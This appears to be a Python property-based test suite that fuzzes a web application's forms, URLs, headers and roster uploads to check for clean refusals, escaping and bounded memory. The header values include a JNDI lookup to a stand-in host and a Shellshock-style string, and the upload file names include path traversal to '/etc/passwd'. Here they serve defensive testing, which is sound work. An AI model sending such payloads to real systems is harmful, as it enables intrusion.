"""Whatever is sent, the answer is a refusal that names the field, or it was text and is kept as text: no fault, nothing
changed by what was refused, memory and time bounded. Forms and addresses come from a walk through the running program."""

import contextlib
import hashlib
import re
import sqlite3
import time
import urllib.parse

from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st

import hostile
from hostile import MARK, SEED, encoded
from routes import filled, patterns, routes
from standing import Standing
from visitor import FORM, Page, Visitor, crawl, pattern, tour

# What is noted whether or not somebody's wish was granted, and what follows from the rest.
TRAIL = {"search_token", "access_row", "chain_head", "chain_link", "chain_pending", "lease", "sign_in_session", "sign_in_address", "need_seen"}
# Acts that end the tester's own session or change how they sign in.
OUT_OF_BOUNDS = {"/sign-out", "/account/sessions/end", "/account/password", "/account/second-step", "/account/second-step/off"}
MEGABYTE = 1 << 20


def generated(count):
    """A property that is tried `count` times, from one seed, without a memory between runs."""
    def decorate(function):
        return seed(SEED)(settings(max_examples=count, deadline=None, database=None, print_blob=False, derandomize=False,
                                   suppress_health_check=list(HealthCheck))(function))
    return decorate


class Watch:
    """What the store holds, and what an answer may look like."""

    def __init__(self, world, door):
        self.door, self.tries, self.slowest, self.statuses = door, 0, 0, {}
        self.store = sqlite3.connect(f"file:{world.store}?mode=ro", uri=True)
        self.tables = sorted({row[0] for row in self.store.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
                             - TRAIL - {"sqlite_sequence"})
        self.version = self.digest = None
        self.begun = door.memory

    def state(self):
        version = self.store.execute("PRAGMA data_version").fetchone()
        if version != self.version:
            digest = hashlib.sha256()
            for table in self.tables:
                # In the order of the table's own key, which not every table has as a number.
                for row in self.store.execute(f"SELECT * FROM {table}"):
                    digest.update(repr(row).encode())
            self.version, self.digest = version, digest.digest()
        return self.digest

    def settle(self):
        """Waits for a class list that comes in beside what is asked: what it changes is nobody's answer."""
        end = time.monotonic() + 60
        while self.store.execute("SELECT COUNT(*) FROM roster_import WHERE status = 'running'").fetchone()[0]:
            assert time.monotonic() < end, "a class list does not come to its end"
            time.sleep(0.05)

    @contextlib.contextmanager
    def one(self, what, must_refuse=False):
        """Around one request: the caller puts the answer into what it is given."""
        self.settle()
        before, begun, seen = self.state(), time.monotonic(), []
        try:
            yield seen
        except (ConnectionError, TimeoutError) as error:
            assert self.door.is_alive, f"the program has ended: {what}"
            raise AssertionError(f"no answer to {what}") from error
        spent = time.monotonic() - begun
        self.tries += 1
        self.slowest = max(self.slowest, spent)
        assert spent < 30, f"{spent:.1f} s for {what}"
        for answer in seen:
            self.statuses[answer.status] = self.statuses.get(answer.status, 0) + 1
            assert answer.status < 500, (what, answer)
            assert MARK not in answer.text and "<script>alert" not in answer.text, ("not escaped", what)
            if must_refuse:
                assert 400 <= answer.status < 500, (what, answer)
            if answer.status >= 400:
                assert self.state() == before, ("changed by what was refused", what, answer)
            if answer.status == 422:
                assert names_a_field(answer.text), ("no field named", what, answer)

    def end(self):
        grown = self.door.memory - self.begun
        print(f"{self.tries} tries, {self.statuses}, slowest {self.slowest * 1000:.0f} ms, "
              f"memory {self.begun // MEGABYTE} -> {self.door.memory // MEGABYTE} MB, peak {self.door.peak // MEGABYTE} MB")
        assert self.door.is_alive
        self.store.close()
        return grown


def names_a_field(html):
    """A summary of what is wrong, or the step's list of what is missing."""
    return 'id="errors"' in html or 'class="todo"' in html or 'role="alert"' in html


def test_hostile_forms(server, program, place, out, long):
    count = 6000 if long else 280
    print(f"seed {SEED}")
    walked = tour(server)
    with Standing(server, program, place, out) as world:
        door = world.serve()
        visitors = {role: person.at(door.origin) for role, person in walked.people.items()}
        offers = [(role, form) for role, forms in walked.forms.items() for form in forms
                  if pattern(form.action) not in OUT_OF_BOUNDS]
        kinds = {pattern(form.action) for _, form in offers}
        print(f"{len(offers)} forms of {len(visitors)} roles go to {len(kinds)} kinds of address")
        assert len(kinds) >= 40, sorted(kinds)
        watch = Watch(world, door)

        @generated(count)
        @given(st.data())
        def any_form(data):
            role, form = data.draw(st.sampled_from(offers))
            visitor = visitors[role]
            pairs = data.draw(hostile.mutations(form.filled()))
            body = encoded([("_token", visitor.token), *pairs])
            what = f"{role} {form.action} {str(pairs)[:600]}"
            with watch.one(what) as seen:
                seen.append(visitor.ask("POST", form.action, body, {"Content-Type": FORM}))
                if seen[0].location and len(seen[0].location) < 2000:
                    seen.append(visitor.get(urllib.parse.quote(seen[0].location.split("#")[0], safe="/?=&%:")))

        @generated(count * 4 // 7)
        @given(st.data())
        def no_form(data):
            role, form = data.draw(st.sampled_from(offers))
            visitor = visitors[role]
            kind, body = data.draw(hostile.no_forms(form.filled(), visitor.token))
            with watch.one(f"{role} {form.action} {kind} {body[:300]}", must_refuse=True) as seen:
                seen.append(visitor.ask("POST", form.action, body, {"Content-Type": kind}))

        any_form()
        no_form()
        assert watch.end() < 200 * MEGABYTE
        # Everybody still gets every page, with what was written into it shown as text.
        for role, visitor in visitors.items():
            for path in sorted(walked.pages[role]):
                answer = visitor.get(path)
                assert answer.status < 500 and MARK not in answer.text, (path, answer)
        status, said = world.verify()
        assert status == 0, said


def test_hostile_addresses_and_headers(server, program, place, out, long):
    count = 3000 if long else 200
    print(f"seed {SEED}")
    walked = tour(server)
    with Standing(server, program, place, out) as world:
        door = world.serve(proxy_trusted="127.0.0.1")
        visitors = {role: person.at(door.origin) for role, person in walked.people.items()}
        roles, known = list(visitors), sorted(patterns().values())
        watch = Watch(world, door)

        @generated(count)
        @given(st.data())
        def any_address(data):
            visitor = visitors[data.draw(st.sampled_from(roles))]
            path = data.draw(hostile.paths(known))
            method = data.draw(st.sampled_from(["GET", "GET", "HEAD", "POST"]))
            if method == "POST" and pattern(path) in ("/sign-in", "/sign-out"):
                return
            with watch.one(f"{method} {path}") as seen:
                if method == "POST":
                    seen.append(visitor.post(path))
                else:
                    seen.append(visitor.ask(method, path))

        names = ["Cookie", "X-Forwarded-For", "X-Forwarded-Proto", "Accept-Language", "User-Agent", "Referer", "If-None-Match", "Range",
                 "Sec-Fetch-Site", "Origin", "Content-Type", "Expect", "Accept", "Accept-Encoding", "Forwarded", "X-HTTP-Method-Override"]
        values = st.one_of(
            st.sampled_from([
                "gyeot=" + "0" * 64, "gyeot=" + "f" * 10_000, "gyeot=;gyeot=;gyeot=", "language=<x>; theme=../; keys=9", "=; ; ;=",
                "999.1.1.1", "::1", "1.2.3.4:80", ",,,,", "unknown", "_hidden", "::ffff:127.0.0.1, 127.0.0.1", "fe80::1%eth0", "1.2.3.4, " * 500,
                "HTTPS", "javascript", "bytes=0-18446744073709551615", "bytes=-1", "*", "W/\"x\"", "100-continue", "gzip;q=NaN",
                "text/html;" * 500, "ko" * 3000, "a/b/c", "\xff\xfe", "${jndi:ldap://evil.example}", "() { :; }; true"]),
            st.text(st.characters(min_codepoint=0x20, max_codepoint=0xff, exclude_characters="\x7f"), max_size=300))

        @generated(count)
        @given(st.data())
        def any_header(data):
            visitor = visitors[data.draw(st.sampled_from(roles))]
            headers = dict(data.draw(st.lists(st.tuples(st.sampled_from(names), values), min_size=1, max_size=5)))
            path = data.draw(st.sampled_from(["/today", "/cases", "/sign-in", "/healthz", "/nowhere", "/"]))
            with watch.one(f"{path} {headers}") as seen:
                jar = {} if "Cookie" in headers else dict(visitor.cookies)
                seen.append(visitor.ask("GET", path, headers=headers, cookies=jar))

        any_address()
        any_header()
        assert watch.end() < 150 * MEGABYTE
        for visitor in visitors.values():
            assert visitor.is_signed_in()


def test_hostile_class_lists(server, program, place, out, long):
    count = 1500 if long else 80
    print(f"seed {SEED}")
    with Standing(server, program, place, out) as world:
        door = world.serve()
        admin = Visitor(door.origin).sign_in(world.roles["administrator"], world.password)
        form = next(f for f in Page(admin.get("/rosters").text).forms if f.action == "/rosters")
        watch = Watch(world, door)
        # A list that is none the worse is taken, so that a refusal means something.
        taken = admin.upload(form, "명단.csv", hostile.TABLE.encode())
        assert taken.status == 303, taken

        names = st.one_of(st.sampled_from(["../../etc/passwd", "a;b=c.csv", "x\0.csv".replace("\0", "%00"), "CON", ".", "=1+1.xlsx", "a" * 4000]),
                          hostile.texts.filter(lambda t: len(t) < 500 and not re.search(r'[\r\n"\x00-\x1f]', t)))

        @generated(count)
        @given(st.data())
        def any_list(data):
            content, name = data.draw(hostile.tables()), data.draw(names)
            with watch.one(f"{name[:80]!r} {content[:300]!r}") as seen:
                answer = admin.upload(form, name, content)
                seen.append(answer)
                if answer.status == 303:
                    # Taken as far as its preview: that shows it as text, and the file of its problems runs nowhere.
                    page = admin.get(answer.location)
                    seen.append(page)
                    problems = admin.get(answer.location.split("?")[0] + "/problems.csv")
                    seen.append(problems)
                    for line in problems.text.splitlines():
                        for cell in re.findall(r'"((?:[^"]|"")*)"', line):
                            assert not re.match(r"[\s\u3000]*[=+\-@＝＋－＠]", cell) or re.fullmatch(r"[+-]?[0-9.]+", cell), cell
                    admin.post(answer.location.split("?")[0] + "/cancel")

        any_list()
        for what, content in hostile.bombs().items():
            before = door.memory
            with watch.one(f"{what}, {len(content)} bytes", must_refuse=what not in ("far away", "out of the folder", "strings beyond")) as seen:
                answer = admin.upload(form, "명단.xlsx", content)
                seen.append(answer)
            print(f"  {what}: {len(content) // 1024} kB -> {answer.status}, memory +{(door.memory - before) // MEGABYTE} MB")
        assert door.peak < 900 * MEGABYTE, door.peak // MEGABYTE
        watch.end()
        assert world.verify()[0] == 0


def test_the_upload_is_for_whoever_is_signed_in(server):
    """A stranger may send no more than a form holds, so that nobody else fills the memory."""
    stranger = Visitor(server.origin)
    stranger.get("/sign-in")
    mark = "b"
    body = (f'--{mark}\r\nContent-Disposition: form-data; name="_token"\r\n\r\n{stranger.token}\r\n--{mark}\r\n'
            f'Content-Disposition: form-data; name="file"; filename="a"\r\n\r\n').encode() + b"a" * (2 << 20) + f"\r\n--{mark}--\r\n".encode()
    answer = stranger.ask("POST", "/rosters", body, {"Content-Type": f"multipart/form-data; boundary={mark}"})
    assert answer.status == 413, answer


def test_every_post_route_is_known_to_the_walk(server):
    """Where a route takes a form that no page of the demo offers, it is named here, with the reason."""
    met = {pattern(form.action) for forms in tour(server).forms.values() for form in forms}
    missed = {route for route in routes("post")
              if not any(re.fullmatch(re.sub(r"\\\{[^}]*\\\}", "[^/]+", re.escape(route)), seen) for seen in met)}
    assert missed == set(UNMET), (missed - set(UNMET), set(UNMET) - missed)
    # They are tried all the same, for records that are not there.
    visitor = tour(server).people["case-manager"]
    for route in sorted(missed - {"/sign-in"}):
        for path in {filled(route), tour(server).real(route) or filled(route)}:
            for text in hostile.TEXTS[::1 if path != filled(route) else 6]:
                answer = visitor.post(path, [(name, text) for name in ("code", "_place", "_version", "version", "note", "answer")])
                assert answer.status < 500, (route, text[:80], answer)


# Sign-in has tests of its own.
UNMET = {
    "/sign-in": "nobody who is signed in sees it",
    "/sign-in/code": "only between password and code",
    "/drafts": "sent by a page's module",
    "/drafts/discard": "sent by a page's module",
    "/account/second-step/off": "nobody of the demo has a second step",
    "/account/sessions/end": "nobody of the demo is signed in twice",
    "/cases/{id}/records/{record}/approve": "no record of the demo waits for approval",
    "/cases/{id}/records/{record}/hand-back": "no record of the demo waits for approval",
    "/cases/{id}/records/{record}/select": "no conference of the demo waits for its end",
    "/tasks/{id}/done": "no task of the demo is open",
    "/cases/{id}/linkages/{linkage}/edit": "no linkage of the demo is a draft",
    "/cases/{id}/linkages/{linkage}/send": "no linkage of the demo is a draft",
    "/directory/imports/{id}/cancel": "only behind a file that was brought in",
    "/directory/imports/{id}/run": "only behind a file that was brought in",
    "/agency-referrals/{id}/decline": "nothing of an agency waits in the demo",
    "/agency-referrals/{id}/revoke": "no agency of the demo was asked to refer",
    "/agency-referrals/{id}/take": "nothing of an agency waits in the demo",
    "/l/{token}/answer": "only an agency comes there, by its address",
    "/l/{token}/code": "only an agency comes there, by its address",
    "/l/{token}/referral": "only an agency comes there, by its address",
    "/programmes/{id}/seats": "only once somebody was ticked",
    "/programmes/{id}/seats/{seat}/move-up": "nobody of the demo waits for a seat",
}
